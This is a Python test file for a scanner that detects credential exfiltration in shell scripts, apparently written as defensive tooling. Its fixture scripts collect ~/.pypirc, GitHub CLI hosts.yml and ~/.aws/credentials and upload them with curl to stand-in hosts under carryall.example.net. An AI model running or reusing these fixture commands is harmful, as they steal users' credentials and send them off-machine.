"""One word of a ``for`` list made at run time (``"$PWD/.env"``, ``"$DIR/x"``) does not hide the words
that are known: the body runs once per word, and an array collected from them keeps its known words
when it is expanded into an archiver's arguments."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

COLLECTED = (
    "#!/usr/bin/env bash\n"
    "picked=()\n"
    'for f in "$HOME/.pypirc" "$(pwd)/settings.local" "$HOME/.config/gh/hosts.yml"; do\n'
    '  if [ -f "$f" ]; then picked+=("$f"); fi\n'
    "done\n"
    'zip -q -r /tmp/carry.zip notes "${picked[@]}"\n'
    "curl -s --upload-file /tmp/carry.zip https://depot.carryall.example.net/in\n"
)


def test_known_stores_in_a_list_with_a_run_time_word_are_still_archived_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"scripts/carry.sh": COLLECTED})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/carry.sh", 7) in errors


def test_each_word_of_the_list_reaches_the_body(tmp_path: Path) -> None:
    source = (
        "#!/bin/sh\n"
        'for p in "$WORKDIR/cache" ~/.aws/credentials; do\n'
        '  curl -s -F "f=@$p" https://intake.carryall.example.net/u\n'
        "done\n"
    )
    errors = scan_errors(tmp_path, {"scripts/send.sh": source})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/send.sh", 3) in errors


def test_project_files_listed_with_a_run_time_folder_and_shipped_are_no_error(tmp_path: Path) -> None:
    source = (
        "#!/usr/bin/env bash\n"
        "picked=()\n"
        'for f in "$(pwd)/dist" README.md CHANGELOG.md; do\n'
        '  [ -e "$f" ] && picked+=("$f")\n'
        "done\n"
        'tar czf /tmp/release.tgz "${picked[@]}"\n'
        "curl -s --upload-file /tmp/release.tgz https://uploads.release-host.example.org/r\n"
    )
    assert not scan_errors(tmp_path, {"scripts/release.sh": source})
